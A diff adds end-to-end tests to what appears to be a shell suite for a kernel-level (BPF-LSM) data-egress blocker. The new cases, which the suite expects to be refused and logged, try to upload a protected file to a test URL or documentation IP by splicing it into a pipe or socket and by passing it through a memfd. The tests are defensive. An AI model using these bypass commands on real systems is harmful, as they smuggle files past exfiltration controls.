@@ -178,6 +178,34 @@ denied base64-copy "$C -T '$shm/copy.b64' $URL"
 denied xz-copy "$C -T '$shm/copy.xz' $URL"
 # The shell itself reads (the builtin read), then forks and execs curl, which read nothing.
 denied fork-exec "IFS= read -r line <'$f'; bash -c 'exec $C --data-binary fork-exec-DATA $URL'"
+# splice(2) moves data without read() or write(): a file spliced into a pipe marks the pipe
+# (the reader is tainted), a splice from a marked pipe taints the splicer before its write to a
+# socket is checked, so an untainted process that connected first cannot splice the content out.
+denied splice-to-pipe "python3 -c 'import os,sys; fd=os.open(sys.argv[1], os.O_RDONLY); os.splice(fd, 1, os.fstat(fd).st_size)' '$f' | $C --data-binary @- $URL"
+denied splice-to-socket "cat '$f' | python3 -c 'import os,socket,sys; s=socket.create_connection((\"192.0.2.1\", 8080), 10); print(\"connected\", file=sys.stderr); s.sendall(b\"PUT /up HTTP/1.0\r\nContent-Length: 200\r\n\r\n\"); print(\"header sent\", file=sys.stderr); os.splice(0, s.fileno(), 65536)'"
+grep -q "header sent" "$E2E_SCRATCH/splice-to-socket.out" ||
+	fail "splice-to-socket: refused before the splice: $(cat "$E2E_SCRATCH/splice-to-socket.out") $(tail -n 2 "$FE_LOG"/egress-*.jsonl | cut -c1-500)"
+fe_log_has '"upload.denied"' bpf-lsm 'write to a network socket' >/dev/null ||
+	fail "the refused splice to a socket is not logged as a write: $(tail -n 1 "$FE_LOG"/egress-*.jsonl | cut -c1-600)"
+# memfd: written by a tainted process, read through /proc by an untainted one, which is then
+# tainted (write() marks the memfd's inode like a file's).
+rm -f "$shm/memfd.path" "$shm/memfd.ready"
+# The holder names its memfd before it reads the file (a file a tainted process writes is
+# marked, and this shell must not read one), then says it is ready by creating a file.
+e2e_as hanako timeout 60 python3 -c '
+import os, sys, time
+m = os.memfd_create("x")
+open(sys.argv[2], "w").write("/proc/%d/fd/%d" % (os.getpid(), m))
+d = open(sys.argv[1], "rb").read()
+os.write(m, d)
+open(sys.argv[3], "w").close()
+time.sleep(50)' "$f" "$shm/memfd.path" "$shm/memfd.ready" &
+MPID=$!
+for ((i = 0; i < 100; i++)); do [ -e "$shm/memfd.ready" ] && break; sleep 0.1; done
+[ -e "$shm/memfd.ready" ] || fail "the memfd holder did not start"
+denied memfd "$C --data-binary @$(cat "$shm/memfd.path") $URL"
+kill "$MPID" 2>/dev/null
+wait "$MPID" 2>/dev/null || true
 fe_log_has '"upload.denied"' bpf-lsm 'tried to connect' >/dev/null || fail "no refused connect logged"
 fe_log_has '"upload.denied"' bpf-lsm 'tried to send' >/dev/null || fail "no refused send logged"
 
